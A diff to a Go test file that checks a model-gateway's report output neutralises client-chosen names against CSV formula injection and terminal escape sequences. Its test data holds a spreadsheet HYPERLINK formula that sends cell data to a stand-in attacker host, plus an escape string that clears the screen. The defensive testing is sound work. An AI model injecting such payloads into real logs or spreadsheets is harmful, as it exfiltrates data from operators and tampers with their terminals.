@@ -2,7 +2,6 @@ package main
 
 import (
 	"encoding/csv"
-	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -11,7 +10,6 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/modelrouter/modelrouter/router"
-	"github.com/modelrouter/modelrouter/store"
 )
 
 // The gateway logs the deployment name a client asked for even when no such
@@ -20,9 +18,7 @@ import (
 // write it as a live spreadsheet formula, nor the table its escape
 // sequences to the operator's terminal.
 func TestReportNeutralisesClientChosenNames(t *testing.T) {
-	path := filepath.Join(t.TempDir(), "log.db")
-	s, err := store.Open(path)
-	require.NoError(t, err)
+	s, path := newLogStore(t)
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	escape := "x\x1b]0;pwned\x07\x1b[2J"
 	for i, name := range []string{formula, escape} {
